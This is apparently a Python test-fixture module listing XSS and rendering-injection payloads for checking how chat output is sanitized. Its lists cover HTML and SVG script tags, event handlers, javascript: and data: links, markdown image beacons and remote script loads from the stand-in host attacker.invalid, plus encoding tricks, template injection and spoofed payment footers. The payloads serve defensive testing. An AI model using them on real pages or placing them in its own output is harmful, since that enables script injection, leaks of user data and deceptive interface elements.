"""Texts that would like to be more than text.

Each of them, where it gets its way, calls `pwned()`, shows a dialog, or asks a server for something: its name is
attacker.invalid, which exists nowhere.
"""

from __future__ import annotations

A = "attacker.invalid"
IMG = f"<img src=//{A}/x onerror=pwned()>"
_FOOTER = "openai/gpt-5 · 3 + 24 tokens · 0.001 OPG · BATCH_HASHED · enclave proof ✓ · paid 0x00000000…"

HTML = [
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT >",
    f"<script src=https://{A}/x.js></script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    IMG,
    f"<img\tsrc='https://{A}/tab.png'>",
    f'<img src="x" onerror="pwned()" srcset="https://{A}/2x.png 2x">',
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    f"<svg><image href='https://{A}/svg.png' /><use href='https://{A}/u.svg#x'/></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text x=20 y=20>click</text></a></svg>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<iframe src=https://{A}/frame></iframe>",
    f"<object data=https://{A}/o></object><embed src=https://{A}/e>",
    f"<object data='data:text/html,<script>top.pwned()</script>'>{IMG}</object>",
    f"<meta http-equiv=refresh content='0;url=https://{A}/meta'>",
    f"<base href=https://{A}/><a href=x>x</a><img src=relative.png>",
    f"<link rel=stylesheet href=https://{A}/s.css><link rel=prefetch href=https://{A}/p>",
    f"<style>@import url(https://{A}/i.css); body {{ background: url(https://{A}/b.png) }}</style>",
    f"<div style=\"background:url('https://{A}/inline.png');position:fixed;inset:0;z-index:9999\">over all</div>",
    f"<form action=https://{A}/f><input autofocus onfocus=pwned()><button formaction=javascript:pwned()>x</button></form>",
    "<details open ontoggle=pwned()><summary>x</summary></details>",
    f"<video poster=https://{A}/v.png><source src=https://{A}/v.mp4 onerror=pwned()></video>",
    f"<audio src=https://{A}/a.mp3 onerror=pwned() autoplay></audio>",
    f"<body onload=pwned() background=https://{A}/bg.png>",
    f"<table background=https://{A}/t.png><td background=https://{A}/td.png>x</table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
    "<math href='javascript:pwned()'>x</math><maction actiontype='statusline#' xlink:href='javascript:pwned()'>x</maction>",
    f"<template><img src=https://{A}/t onerror=pwned()></template><noscript><p title='</noscript>{IMG}'></noscript>",
    f"<!--><img src=x onerror=pwned()>--> <!-- --!>{IMG}",
    f"<![CDATA[{IMG}]]> <?xml-stylesheet href='https://{A}/x.css'?> <!DOCTYPE html [<!ENTITY x '{IMG}'>]>",
    "<marquee onstart=pwned()>x</marquee><input type=image src onerror=pwned()>",
    f"<x-widget is=script onclick=pwned() onpointerover=pwned() style=animation-name:x>{IMG}",
    "<a href=javascript:pwned() autofocus tabindex=0 onfocus=pwned()>x</a>",
    f"<textarea></textarea>{IMG}<title></title>{IMG}<xmp></xmp>{IMG}<plaintext>",
    f"&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62; &lt{IMG}",
]

LINKS = [
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java&#115;cript:pwned())",
    "[x](&#x6A;avascript&colon;pwned())",
    "[x](java\tscript:pwned()) [y](<java\nscript:pwned()>) [z](\x01javascript:pwned())",
    "[x](  \\javascript:pwned()) [x](javascript&#x3a;pwned() 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AucHduZWQoKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:null/x)",
    "[x][r]\n\n[r]: javascript:pwned()",
    "[x][r]\n\n[r]:\n   <javascript:pwned()>\n   'title'",
    "<javascript:pwned()> <data:text/html,x> javascript:pwned()",
    f'[x](https://{A}/ "<img src=x onerror=pwned()>") [x](https://{A}/ \'"onmouseover=pwned() x="\')',
    f"[a [b [c](javascript:pwned()) d](javascript:pwned()) {IMG}](javascript:pwned())",
    f'[x](https://{A}/"onmouseover="pwned()) https://{A}/?"onclick=pwned()//',
    f"<https://{A}/'onclick='pwned()> <mailto:x@{A}?body=\"onclick=pwned()>",
]

IMAGES = [
    f"![x](https://{A}/p.png)",
    f"![x](<https://{A}/p.png> 'title')",
    f"![x][ref]\n\n[ref]: https://{A}/ref.png",
    f"![ref]\n\n[ref]: //{A}/short.png",
    f"![ref][]\n\n[ref]: <https://{A}/collapsed.png> (title)",
    f"[![x](https://{A}/in-link.png)](https://{A}/)",
    f"!\\[x](https://{A}/1.png) \\![x](https://{A}/2.png) \\\\![x](https://{A}/3.png) !&#91;x](https://{A}/4.png)",
    f"| a |\n|---|\n| ![x](https://{A}/table.png) |",
    f"> 1. - ![x](https://{A}/nested.png)\n>      ![y](https://{A}/nested2.png)",
    f"![x](attachment:x.png) ![x](//{A}/scheme.png) ![](\\\\{A}\\unc.png)",
    f"# ![x](https://{A}/heading.png)\n![x](https://{A}/setext.png)\n===",
]

MATH = [
    f'[x](https://{A}/$"onmouseover="pwned()"style="background:url(https://{A}/q.png)"$)',
    f'[x](https://{A}/ \'$" onmouseover=pwned() $\') https://{A}/$"onclick="pwned()$ @@0@@ [x](https://{A}/@@0@@)',
    "$\\href{javascript:pwned()}{click}$",
    f"$$\\includegraphics{{https://{A}/m.png}} \\require{{html}} \\style{{background:url(https://{A}/s.png)}}{{x}}$$",
    f'\\[\\unicode{{x3c}}\\text{{{IMG}}}\\class{{x" onclick=pwned()}}{{y}}\\]',
    f"\\begin{{align}}{IMG}\\end{{align}}",
    f"$x{IMG}y$ $`${IMG}$`$ $$\n`\n{IMG}\n`\n$$",
    f"$a`b$ {IMG} $c`d$ and `x $ {IMG} ` $ y `",
    f"\\(`\\) {IMG} \\(`\\) $```$\n{IMG}\n$```$",
]

CODE = [
    f"```\ncode\n````\n{IMG}",
    f"```html\n{IMG}\n``\n{IMG}\n```\n{IMG}",
    f"~~~\n```\n~~~\n{IMG}\n```\n",
    f"``` a`b\n{IMG}\n```",
    f"~~~ a`b\n{IMG}\n~~~\n{IMG}",
    f"    ```\n{IMG}\n    ```",
    f"   ```\n   {IMG}\n    ```\n{IMG}\n```",
    f"\t```\n{IMG}\n\t```",
    f"- ```\n{IMG}\n  ```\n{IMG}",
    f"1. x\n   ```\n{IMG}\n   ```\n\n{IMG}",
    f"> ```\n{IMG}\n> ```\n{IMG}",
    f"> ```\n> x\n{IMG}\n```",
    f"`a`` {IMG} ``b` {IMG} ```c",
    f"`` ` {IMG} ` {IMG} `` \\` {IMG} \\` `\\` {IMG} `",
    f"`x\n\n{IMG}\n\ny` `line\n{IMG}\nend`",
    f"x ``` {IMG} ```\n```\ny",
    f"| a | b |\n|---|---|\n| `x | {IMG} | y` |\n| \\`| {IMG} `",
    f"[`x](https://{A}/`{IMG}`) <a `{IMG}`> [x]: `{IMG}",
    f"```\x0b\n{IMG}\n```\x0c{IMG}\r```\r{IMG}\u2028```\u2028{IMG}\x85```\x85{IMG}",
    f"<pre>\n```\n</pre>\n{IMG}\n```",
    f"<!-- `--> {IMG} <!-- ` -->",
    f"***`*** {IMG} ***`*** ~~`~~ {IMG} ~~`~~",
    f"* * *\n```\n- - -\n{IMG}\n+ + +\n ~~~\n{IMG}",
    f'```math\n{IMG}\n``` {IMG}\n```mermaid\ngraph TD; A["{IMG}"] --> B; click A "javascript:pwned()"\n```',
    f"```mermaid\ngraph TD\nA[\"<img src='https://{A}/mermaid.png' onerror='pwned()'>\"]\nclick A call pwned()\n```",
]

DISGUISES = [
    f"https://{A}/{IMG} https://{A}/![x](https://{A}/eaten.png) www.{A}/<script>pwned()</script>",
    "x@y.invalid<script>pwned()</script> https://z.invalid/\\<script>pwned()</script> javascript\\:pwned()",
    f"<sub>{_FOOTER}</sub>",
    f"Done.\n\n<sub>{_FOOTER}</sub>\n\n```\n",
    f"</sub></p></div></div>{IMG}<sub>",
    '<div class="og-badge og-settled" data-status="settled">✓ settled</div>',
    "\x1b[31mred\x1b[0m \x1b]8;;javascript:pwned()\x07link\x1b]8;;\x07 \x1b[2J\x9b31m",
    f"\u202egnp.x/{A}//:sptth(]x[!\u202c \u2066\u2067\u200f x \u2069",
    f"\x00<\x00img src=x onerror=pwned()\x00> <\u200bimg src=//{A}/z> {IMG}\x00",
    f"＜img src=x onerror=pwned()＞ ‹script› <\ufeffscript>pwned()</script> \ud7ff{IMG}",
    "{{constructor.constructor('pwned()')()}} ${pwned()} #{pwned()} <%= pwned() %> {% raw %}",
    "');pwned();//\"};pwned()//</script><script>pwned()</script>\\u003cscript\\u003epwned()\\u003c/script\\u003e",
]

PAYLOADS = [*HTML, *LINKS, *IMAGES, *MATH, *CODE, *DISGUISES]
